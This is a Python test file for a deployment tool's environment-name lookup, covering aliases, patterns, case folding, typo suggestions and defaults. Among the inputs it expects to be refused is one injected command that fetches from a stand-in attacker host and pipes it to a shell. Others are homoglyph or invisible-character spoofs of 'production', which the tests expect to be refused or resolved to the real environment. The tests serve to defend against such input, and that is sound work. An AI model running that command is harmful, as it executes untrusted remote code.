"""Which environment a name means."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import structs

from app.lifecycle.configuration.model import RepoConfig
from app.lifecycle.configuration.reading import parse_config
from app.lifecycle.planning.targets.environments import (
    STANDARD,
    Environment,
    NotFound,
    deployable,
    environment_meant,
    environment_named,
    find_environment,
    known_environments,
)
from app.model.build import Build
from app.model.configuration.environment_names import folded, visible
from app.model.plan import Concurrency
from app.model.reasons.typed import (
    EnvironmentAmbiguous,
    EnvironmentMissing,
    EnvironmentNameMalformed,
    EnvironmentUnknown,
)

CONFIG = parse_config(
    """
    defaults: {ref: develop, timeout: 10m, concurrency: cancel}
    environments:
      production: {aliases: [prod, live], ref: main, timeout: 1h, url: https://x.example.com}
      eu-west: {aliases: [eu]}
      eu-east: {aliases: [eu, Ost], concurrency: allow, production: true}
      staging:
      "pr{number}": {deploy_on: {pull_request: true}, url: "https://pr{number}.example.com"}
      "qa-*": {transient: true}
      "slot{number}": {}
    """
)
LISTED = ("Demo", "pr12", "production")


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("production", "production"),
        ("prod", "production"),
        ("LIVE", "production"),
        ("Production", "production"),
        ("ost", "eu-east"),
        ("staging", "staging"),
        ("pr7", "pr7"),
        ("qa-a/b", "qa-a/b"),
        ("qa-A", "qa-A"),
        ("QA-A", "qa-a"),
        ("PR7", "pr7"),
        ("Demo", "Demo"),
        ("demo", "Demo"),
        ("preview", "preview"),
        ("Preview", "preview"),
        ("test", "test"),
    ],
)
def test_a_known_name(typed: str, name: str):
    """By the file's names, patterns and aliases, by GitHub's list, by the four standard names."""
    found = find_environment(typed, CONFIG, LISTED)

    assert found == environment_named(name, CONFIG)
    assert isinstance(found, Environment)
    assert found.name == name


@pytest.mark.parametrize(
    ("typed", "details"),
    [
        ("prodction", {"closest": "production"}),
        ("stagin", {"closest": "staging"}),
        ("preveiw", {"closest": "preview"}),
        ("lve", {"closest": "live"}),
        ("zzz", {"closest": ""}),
        ("pr0", {}),
        ("pr", {}),
        ("prx", {}),
    ],
)
def test_an_unknown_name_is_refused(typed: str, details: dict[str, str]):
    """With the closest one."""
    found = find_environment(typed, CONFIG, LISTED)

    assert isinstance(found, EnvironmentUnknown)
    assert found.environment == typed
    assert details.items() <= structs.asdict(found).items()
    assert found.known == KNOWN


@pytest.mark.parametrize("typed", ["prod", "Production", "LIVE"])
def test_the_configuration_goes_before_githubs_list(typed: str):
    """GitHub lists any spelling that was ever deployed to; the rules are those of the file."""
    found = find_environment(typed, CONFIG, (typed,))

    assert found == environment_named("production", CONFIG)


KNOWN = ("production", "eu-west", "eu-east", "staging", "Demo")
"""What can be typed there."""


@pytest.mark.parametrize(
    ("typed", "name"),
    [
        ("QA-7", "QA-7"),
        ("qa-7", "QA-7"),
        ("Qa-7", "QA-7"),
        ("Prod-EU", "Prod-EU"),
        ("prod-eu", "prod-eu"),
        ("PROD-EU", "prod-eu"),
    ],
)
def test_a_pattern_holds_in_any_case(typed: str, name: str):
    """A capital letter in the file lets nobody around the rules, not even with `--new`."""
    rules = "{allow: ['@octocat']}"
    config = parse_config(f"environments: {{'QA-{{number}}': {rules}, 'Prod-*': {rules}}}")

    found = deployable(typed, config, (typed,), new=True)
    assert isinstance(found, Environment)
    assert (found.name, found.rules.allow) == (name, ("@octocat",))
    assert environment_meant(folded(typed), config).rules.allow == ("@octocat",)


def test_an_empty_name_is_never_production():
    """There is no default environment; what can be typed is told."""
    for typed in ("", "  "):
        assert find_environment(typed, CONFIG, LISTED, new=True) == EnvironmentMissing(known=KNOWN)


def test_an_alias_of_two_environments_is_refused():
    """Both are named."""
    assert find_environment("EU", CONFIG, LISTED) == EnvironmentAmbiguous(
        environment="EU", matches=("eu-west", "eu-east")
    )


def test_names_that_differ_in_case_only():
    """The exact one is meant; without it, neither is guessed."""
    listed = ("Beta", "BETA")

    found = find_environment("Beta", RepoConfig(), listed)
    assert isinstance(found, Environment)
    assert found.name == "Beta"
    guess = find_environment("beta", RepoConfig(), listed)
    assert isinstance(guess, EnvironmentAmbiguous)


@pytest.mark.parametrize(
    ("typed", "created"),
    [
        ("sandbox", True),
        ("prodction", True),
        ("eu west 1", True),
        ("a_b.c/d-e", True),
        ("x" * 256, False),
        ("https://evil.example/x", False),
        ("🚀", False),
        ("production;curl evil.example|sh", False),
        ("pr\N{CYRILLIC SMALL LETTER O}duction", False),
        ("qa-\N{CYRILLIC SMALL LETTER A}", False),  # a pattern matches anything
        ("--force", False),
        ("pr{number}", False),
        ("qa-*", False),
    ],
)
def test_new_lets_an_unknown_name_be_created(typed: str, created: bool):
    """`--new` takes what everybody can read and type."""
    found = deployable(typed, CONFIG, (), new=True)
    assert isinstance(found, Environment if created else EnvironmentNameMalformed)


@pytest.mark.parametrize(
    "typed",
    [
        "production ",
        "\tproduction",
        "pro\N{ZERO WIDTH SPACE}duction",
        "production\N{VARIATION SELECTOR-16}",
        "pro\N{SOFT HYPHEN}duction",
        "\N{RIGHT-TO-LEFT OVERRIDE}production",
        "production\N{HANGUL FILLER}",
        "\N{FULLWIDTH LATIN SMALL LETTER P}roduction",
        "production\x00",
    ],
)
def test_what_differs_invisibly_is_the_known_one(typed: str):
    """Rules and line are those of the name that people see, whatever GitHub lists by now."""
    for config, listed in ((CONFIG, (typed,)), (RepoConfig(), (typed,)), (RepoConfig(), ())):
        found = deployable(typed, config, listed, new=True)
        assert found == environment_named("production", config)


def test_githubs_list_makes_no_name_good():
    """GitHub lists whatever was deployed to; the file may name what it likes."""
    odd = "pr\N{CYRILLIC SMALL LETTER O}duction"
    assert deployable(odd, CONFIG, (odd,), new=True) == EnvironmentNameMalformed(
        environment=odd, closest="production"
    )
    named = parse_config('environments: {"EU (west)": {}}')
    found = deployable("EU (west)", named, ())
    assert isinstance(found, Environment)
    assert "EU (west)" == found.name


def test_spellings_of_one_name_have_one_line():
    """However GitHub and people write it."""
    names = {"Beta", "BETA", "beta ", "be\N{ZERO WIDTH SPACE}ta"}
    assert {folded(name) for name in names} == {"beta"}
    build = Build(repository_id=1, deployment_id=2, environment="BETA ")
    assert build.slot_name == "beta"


def test_new_does_not_hide_a_known_one():
    """An alias stays an alias."""
    found = find_environment("prod", CONFIG, (), new=True)

    assert isinstance(found, Environment)
    assert found.name == "production"


def test_what_can_be_typed():
    """The file's names first, GitHub's after, pull requests' not; else the standard four."""
    assert known_environments(CONFIG, LISTED) == (
        "production",
        "eu-west",
        "eu-east",
        "staging",
        "Demo",
    )
    assert known_environments(RepoConfig(), ("a", "b", "a")) == ("a", "b")
    assert known_environments(RepoConfig(), ()) == STANDARD


@pytest.mark.parametrize(
    ("name", "ref", "timeout", "concurrency", "production"),
    [
        ("production", "main", 3600.0, Concurrency.CANCEL, True),
        ("eu-east", "develop", 600.0, Concurrency.ALLOW, True),
        ("staging", "develop", 600.0, Concurrency.CANCEL, False),
        ("pr7", "pull/7/head", 600.0, Concurrency.CANCEL, False),
        ("slot7", "develop", 600.0, Concurrency.CANCEL, False),
        ("elsewhere", "develop", 600.0, Concurrency.CANCEL, False),
    ],
)
def test_the_rules_in_force(
    name: str, ref: str, timeout: float, concurrency: Concurrency, production: bool
):
    """The environment's own go before the defaults; a pull request's deploys that."""
    found = environment_named(name, CONFIG)

    assert found.default_ref(CONFIG) == ref
    assert found.timeout(CONFIG) == timeout
    assert found.concurrency(CONFIG) is concurrency
    assert found.production is production


def test_defaults_without_a_file():
    """The default branch, an hour, a queue; only `production` is production."""
    found = environment_named("production", RepoConfig())

    assert found.default_ref(RepoConfig()) is None
    assert found.timeout(RepoConfig()) == 3600.0
    assert found.production
    assert found.url(None) == ""


def test_the_address_of_an_environment():
    """`{number}` is the pull request's; without one there is no address."""
    assert environment_named("production", CONFIG).url(3) == "https://x.example.com"
    assert environment_named("pr7", CONFIG).url(None) == "https://pr7.example.com"
    rules = parse_config('environments: {a: {url: "https://{number}.x.com"}}')
    assert environment_named("a", rules).url(12) == "https://12.x.com"
    assert environment_named("a", rules).url(None) == ""


@given(st.text(max_size=20), st.lists(st.text(min_size=1, max_size=8), max_size=3), st.booleans())
def test_a_name_is_known_or_refused(typed: str, listed: list[str], new: bool):
    """Any text is an environment or a reason; a listed name that no file explains is itself."""
    found = find_environment(typed, CONFIG, listed, new=new)

    assert isinstance(found, Environment | NotFound)
    for name in listed:
        named = find_environment(name, RepoConfig(), [name])
        if visible(name):
            assert isinstance(named, Environment)
            assert folded(named.name) == folded(name)
